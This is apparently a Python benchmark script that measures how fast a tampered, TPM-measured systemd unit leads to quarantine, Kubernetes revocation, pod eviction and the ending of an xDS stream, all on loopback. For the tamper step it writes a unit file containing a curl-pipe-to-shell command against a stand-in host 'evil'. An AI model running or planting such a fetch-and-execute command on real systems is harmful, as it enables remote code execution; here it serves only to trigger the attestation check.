"""Tamper -> quarantined -> revoked: how long each step takes, from a changed measured file to a node with
nothing left.

Real parts on loopback, no podman: a software TPM (swtpm), the verifier and its push service over mutual
TLS, a Kubernetes control plane (etcd, kube-apiserver, kube-controller-manager) with one Node and a pod on
it, and the xDS server with a live stream for the node. The node pushes a clean quote, then its measured
file changes and it pushes again; the figures are the time from that push to: the verdict (quarantined),
the Kubernetes revocation done (kube_node_standing through Ansible: label, taint, renewal binding, pending
requests, tokens), the pod evicted, and the node's xDS stream ended. The mesh heads' reconfiguration
(a partial run of the mesh role over SSH) needs lab nodes and is not measured here.
Usage: PYTHONPATH=. python benchmarks/revocation.py [--rounds 3]
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path[:0] = [str(ROOT), str(ROOT / "plugins" / "module_utils"), str(ROOT / "tests" / "integration")]

import grpc  # noqa: E402
import tpm  # noqa: E402
import yaml  # noqa: E402
from envoy.config.core.v3 import base_pb2  # noqa: E402
from envoy.service.discovery.v3 import ads_pb2_grpc, discovery_pb2  # noqa: E402
from kube_loopback import control_plane  # noqa: E402
from l7.l7_peers import ca_and_server_cert, node_identity  # noqa: E402
from test_kube_node_standing_module import node_kubeconfig  # noqa: E402

from edgewright.attest import push  # noqa: E402
from edgewright.attest.manufacturer import Manufacturer  # noqa: E402
from edgewright.attest.verifier import Verifier  # noqa: E402
from edgewright.xds.identity import CA_CERT, ensure_client_ca  # noqa: E402
from edgewright.xds.model import parse_source  # noqa: E402
from edgewright.xds.resources import LISTENER  # noqa: E402
from edgewright.xds.server import AggregatedDiscovery, SnapshotCache, start_server, verifier_standing  # noqa: E402
from plugins.module_utils.attest_push import client_context, push_once  # noqa: E402
from tests import swtpm  # noqa: E402
from tests.unit.test_attest_verifier import AK, PCRS, enroll, trusting  # noqa: E402

PORT_BASE = 18840
TEMPLATES = ROOT / "roles" / "kubelet" / "templates"


def standing(kubeconfig: str, node: str, state: str, verifier_dir: Path) -> None:
    run = subprocess.run(
        ["ansible", "localhost", "-m", "kube_node_standing", "-a",
         f"kubeconfig={kubeconfig} node={node} state={state} verifier_dir={verifier_dir}"],
        cwd=ROOT, capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)}, check=False,
    )  # fmt: skip
    if run.returncode != 0:
        raise RuntimeError(run.stdout[-2000:])


def watch_xds(port: int, node: str, ended: dict) -> None:
    """Hold an ADS stream for NODE until the server ends it; note when."""
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        stub = ads_pb2_grpc.AggregatedDiscoveryServiceStub(channel)
        requests = iter([discovery_pb2.DiscoveryRequest(node=base_pb2.Node(id=node), type_url=LISTENER)])
        try:
            for _ in stub.StreamAggregatedResources(_then_wait(requests), timeout=120):
                ended.setdefault("served", time.monotonic())
        except grpc.RpcError as err:
            ended["at"], ended["code"] = time.monotonic(), err.code().name


def _then_wait(requests):
    yield from requests
    time.sleep(120)


def one_round(work: Path, kubeconfig: str, apis, round_no: int) -> dict[str, float]:
    from kubernetes.client.exceptions import ApiException

    node = f"rev-bench-{round_no}"
    vendor = Manufacturer(work / f"vendor-{round_no}")
    verifier_dir = work / f"verifier-{round_no}"
    verifier = Verifier(trusting(verifier_dir, vendor))
    node_tpm = swtpm.start(work / f"tpm-{round_no}", vendor)
    artefact = work / f"unit-{round_no}.service"
    artefact.write_text("[Service]\nExecStart=/usr/bin/true\n")
    measure = (16, [str(artefact)], str(work / f"measurements-{round_no}.json"))
    enroll(verifier, node, node_tpm)
    tpm.measure_artefacts(node_tpm.tcti, *measure)
    nonce = verifier.issue_nonce(node)
    verifier.verify(node, "edge", *tpm.quote(node_tpm.tcti, AK, PCRS, nonce), learn_policy=True)

    from kubernetes import client, config

    node_api = client.CoreV1Api(config.new_client_from_config(node_kubeconfig(kubeconfig, node, work)))
    node_api.create_node({"metadata": {"name": node}})
    standing(kubeconfig, node, "attested", verifier_dir)
    pod = {
        "metadata": {"name": node},
        "spec": {"nodeName": node, "containers": [{"name": "a", "image": "x"}]},
    }
    apis.create_namespaced_pod("default", pod)

    source = {"clusters": {"web": {"endpoints": ["127.0.0.1:9"]}}, "nodes": {node: {"listeners": []}}}
    cache = SnapshotCache(parse_source(source))
    discovery = AggregatedDiscovery(cache, insecure_plaintext=True, standing=verifier_standing(verifier_dir))
    xds, xds_port = start_server(cache, "127.0.0.1:0", discovery=discovery, insecure_plaintext=True)
    ended: dict = {}
    threading.Thread(target=watch_xds, args=(xds_port, node, ended), daemon=True).start()

    marks: dict[str, float] = {}

    def revoke(name: str, reason: str) -> None:
        standing(kubeconfig, name, "quarantined", verifier_dir)
        marks["kubernetes"] = time.monotonic()

    server_ca, cert, key = ca_and_server_cert(work, f"controller-{round_no}", "127.0.0.1")
    client_ca = work / f"client-ca-{round_no}"
    ensure_client_ca(client_ca)
    service = push.PushService(verifier, deadline_s=3600, on_quarantined=revoke)
    server = push.start_server(service, "127.0.0.1", 0, push.tls_context(cert, key, client_ca / CA_CERT))
    identity = node_identity(client_ca, node, work)
    context = client_context(str(server_ca), str(identity / "cert.pem"), str(identity / "key.pem"))
    url = f"https://127.0.0.1:{server.server_address[1]}"
    try:
        assert push_once(url, node, node_tpm.tcti, AK, PCRS, context, measure=measure)[0] == 200
        while "served" not in ended:
            time.sleep(0.05)
        artefact.write_text("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n")
        start = time.monotonic()
        status, _ = push_once(url, node, node_tpm.tcti, AK, PCRS, context, measure=measure)
        marks["quarantined"] = time.monotonic()
        assert status == 403
        while "pod" not in marks or "kubernetes" not in marks or "at" not in ended:
            if "pod" not in marks:
                try:
                    if apis.read_namespaced_pod(node, "default").metadata.deletion_timestamp:
                        marks["pod"] = time.monotonic()
                except ApiException:
                    marks["pod"] = time.monotonic()
            if time.monotonic() - start > 180:
                raise RuntimeError(f"revocation incomplete after 180 s: {sorted(marks)}, xds {ended}")
            time.sleep(0.05)
        marks["xds"] = ended["at"]
        return {step: at - start for step, at in marks.items()}
    finally:
        server.shutdown()
        service.stop()
        xds.stop(grace=0)
        node_tpm.stop()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rounds", type=int, default=3)
    args = parser.parse_args()
    from kubernetes import client, config, utils

    with tempfile.TemporaryDirectory(prefix="ew-revocation-bench-") as tmp:
        work = Path(tmp)
        with control_plane("revb", work / "kube", PORT_BASE) as kubeconfig:
            admin = config.new_client_from_config(config_file=kubeconfig)
            for template in ("bootstrap-rbac.yaml.j2", "node-labels-policy.yaml.j2"):
                for document in yaml.safe_load_all((TEMPLATES / template).read_text()):
                    utils.create_from_dict(admin, document)
            core = client.CoreV1Api(admin)
            while not core.list_namespaced_service_account("default").items:
                time.sleep(0.5)
            rows = [one_round(work, kubeconfig, core, n) for n in range(args.rounds)]
    steps = ["quarantined", "kubernetes", "pod", "xds"]
    labels = {
        "quarantined": "tampered quote pushed -> quarantined",
        "kubernetes": "-> Kubernetes revoked (label, taint, renewal, CSRs, tokens)",
        "pod": "-> pod evicted (deletion by the taint)",
        "xds": "-> xDS stream of the node ended",
    }
    print(
        f"{'step (seconds from the tampered push)':<62} "
        + " ".join(f"{f'r{n + 1}':>7}" for n in range(len(rows)))
    )
    for step in steps:
        print(f"{labels[step]:<62} " + " ".join(f"{r[step]:7.2f}" for r in rows))
    print(json.dumps({"rounds": rows}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
